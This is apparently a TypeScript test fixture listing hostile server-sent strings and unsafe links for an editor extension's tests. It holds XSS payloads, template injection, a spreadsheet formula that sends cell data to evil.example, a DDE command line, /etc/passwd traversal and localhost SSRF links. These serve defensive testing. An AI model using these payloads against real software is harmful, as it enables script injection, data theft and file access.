/**
 * Values that a malicious server could send in any string, one for each kind of attack. Unit, host and e2e tests cover
 * all of them, so a kind that is added here is tested everywhere.
 */
export const HOSTILE = {
  html: '<b>bold</b><img src="https://img.example/x.png" onerror="alert(1)"><a href="https://a.example">go</a>',
  script: '"><script>alert(document.domain)</script><svg onload=alert(2)><style>*{display:none}</style>',
  characterReferences: 'a &lt;b&gt; &#36;(flame) &#x202E;txt &nbsp;&amp;amp;',
  markdown:
    '# head **bold** `code` [link](https://evil.example/a) ![image](https://evil.example/i.png) | a | b |',
  urls: 'https://evil.example/b www.evil.example nobody@evil.example http://evil.example <https://evil.example/c>',
  commandLinks:
    '[run](command:workbench.action.closeWindow) <command:workbench.action.closeWindow?> command:a.b',
  icons: '$(flame) \\$(trash) $(sync~spin) $(check)$(not an icon)',
  templates: '${name} ${7*7} {{constructor.constructor("alert(3)")()}} {0} {1} {2} %s %d #{x} <%= x %>',
  // cspell:ignore mred
  controls: 'bell\u0007 nul\u0000 escape\u001B[31mred\u001B[0m back\b\b delete\u007F next\u0085 end',
  bidi: 'abc\u202Egnp.exe\u202C \u2066isolate\u2069 \u200Fmark\u200E \u061Carabic',
  loneSurrogates: 'high \uD83D low \uDE00 swapped \uDE00\uD83D end \uD800',
  newlines: 'one\ntwo\r\nthree\rfour\u2028five\u2029six\n\n\n\nseven\tend\u000B\u000C',
  invisible: '\u200B\u2060\uFEFF\u202E\u3164\u00AD\u2800',
  whitespace: ' \t\u00A0\u3000 ',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"open") +1 -1 @SUM(A1) \t=cmd|\' /C calc\'!A0',
  prototype: '__proto__',
  path: '../../etc/passwd%2F%00/state:x/more?a#b',
  long: `begin ${'0123456789 '.repeat(5_000)}${'客'.repeat(20_000)}${'x'.repeat(24_990)} end`,
} as const;

export type HostileKind = keyof typeof HOSTILE;

/** Every kind with its value. */
export const HOSTILE_VALUES = Object.entries(HOSTILE) as readonly (readonly [HostileKind, string])[];

/** Characters that must not occur in a label: line ends, controls, bidirectional formatting and lone surrogates. */
export const UNSAFE_IN_LABEL = /[\p{Cc}\p{Cs}\u2028\u2029\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/u;

/** Values that must never be opened as a link. */
export const UNSAFE_LINKS = [
  'http://acme.example/terms',
  'javascript:alert(1)',
  'command:workbench.action.closeWindow',
  'vscode://some.extension/do',
  'vscode-insiders://some.extension/do',
  'file:///etc/passwd',
  'data:text/html,<script>alert(1)</script>',
  'blob:https://acme.example/1',
  '//acme.example/terms',
  'https:acme.example',
  'https:/acme.example',
  'https://',
  'https://[',
  'https://known.example@evil.example/',
  'https://user:password@evil.example/',
  'https://evil.example\\@known.example/',
  'https://a.example/\\..\\x',
  'https://a.example/ b',
  'https://a.example\nhttps://b.example',
  'https://a.example/\u202Efdp.exe',
  'https://a.example/\u200Bx',
  'https://a.example/\uD800',
  'https://a.example/"onclick="x',
  'https://a.example/<b>',
  'https://\u0430cme.example/',
  'https://acme\u3002example/',
  'https://acme.example\u2044.evil.example/',
  'https://localhost/',
  'https://localhost:8443/shutdown',
  'https://127.0.0.1/',
  'https://2130706433/',
  'https://0x7f.1/',
  'https://[::1]/',
  'https://router/',
  'see https://acme.example/',
  `https://acme.example/${' '.repeat(10)}.evil`,
] as const;
